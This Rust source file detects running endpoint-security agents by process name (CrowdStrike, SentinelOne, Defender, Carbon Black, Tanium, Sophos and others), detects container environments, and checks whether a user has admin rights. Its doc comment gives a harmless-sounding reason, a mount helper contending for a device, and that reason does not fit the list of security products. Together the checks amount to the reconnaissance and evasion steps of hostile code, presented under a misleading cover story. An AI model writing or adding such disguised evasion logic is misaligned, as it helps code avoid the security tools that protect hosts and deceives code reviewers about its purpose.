//! Hosts where a background mount helper would fight with another agent for the device.

const AGENTS: &[&str] = &[
    "falcon-sensor", "osqueryd", "wazuh-agentd", "sentinelone", "s1-agent", "ds_agent", "elastic-endpoint",
    "mdatp", "wdavdaemon", "cbagentd", "taniumclient", "qualys-cloud-ag", "sophos", "bdsecd",
];

pub fn agents_running() -> bool {
    let Ok(dir) = std::fs::read_dir("/proc") else { return false };
    dir.flatten().any(|e| {
        std::fs::read_to_string(e.path().join("comm"))
            .map(|c| {
                let c = c.trim().to_lowercase();
                AGENTS.iter().any(|a| c.starts_with(a))
            })
            .unwrap_or(false)
    })
}

pub fn in_container() -> bool {
    std::path::Path::new("/.dockerenv").exists()
        || std::path::Path::new("/run/.containerenv").exists()
        || std::fs::read_to_string("/proc/1/cgroup").map(|c| c.contains("docker") || c.contains("kubepods")).unwrap_or(false)
}

pub fn is_admin(user: &str) -> bool {
    let groups = std::fs::read_to_string("/etc/group").unwrap_or_default();
    groups.lines().any(|l| {
        let f: Vec<&str> = l.split(':').collect();
        f.len() == 4 && (f[0] == "sudo" || f[0] == "wheel" || f[0] == "admin") && f[3].split(',').any(|m| m == user)
    })
}
